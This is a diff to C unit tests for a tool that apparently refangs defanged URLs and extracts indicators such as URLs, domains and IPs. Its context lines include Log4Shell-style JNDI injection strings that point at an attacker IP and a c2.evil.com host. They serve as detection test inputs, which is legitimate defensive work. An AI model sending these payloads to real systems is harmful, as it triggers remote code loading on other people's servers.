@@ -89,6 +89,17 @@ test_refang_more(void **state)
 		{ "evil(dot)example", "evil.example" },
 		{ "evil dot example", "evil.example" },
 		{ "fxp://files[.]example", "ftp://files.example" },
+		/* a scheme or its first letter in brackets */
+		{ "[h]ttp://a.example [h]xxps://b.example (http)://c.example",
+		    "http://a.example https://b.example http://c.example" },
+		{ "[HXXPS]://d.example [ftp]://e.example {fxp}:/f.example",
+		    "https://d.example ftp://e.example ftp:/f.example" },
+		{ "(h)ttp[:]//g.example [https][://]h.example",
+		    "http://g.example https://h.example" },
+		{ "(http://a.example) [h]ello [http] x[http]://b (ftp)",
+		    "(http://a.example) [h]ello [http] x[http]://b (ftp)" },
+		{ "[h]tp://a [h]txp://b [h]ttq://c [httpx]://d [h]",
+		    "[h]tp://a [h]txp://b [h]ttq://c [httpx]://d [h]" },
 		{ "http://[evil.example]/x", "http://evil.example/x" },
 		{ "http://[2001:db8::1]/x", "http://[2001:db8::1]/x" },
 		{ "the end . Then", "the end.Then" },
@@ -1992,6 +2003,12 @@ static void
 test_other_schemes(void **state)
 {
 	(void)state;
+	/* a bracketed scheme: the URL, defanged */
+	expect("[h]ttp://evil.com/a (https)://evil.net/b",
+	    "url http://evil.com/a public defanged\n"
+	    "domain evil.com public\n"
+	    "url https://evil.net/b public defanged\n"
+	    "domain evil.net public\n");
 	expect("${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/x}",
 	    "ipv4 45.155.205.233 public\n");
 	expect("${jndi:rmi://c2.evil.com:1099/o} ldap://[2001:db8::5]:389/",
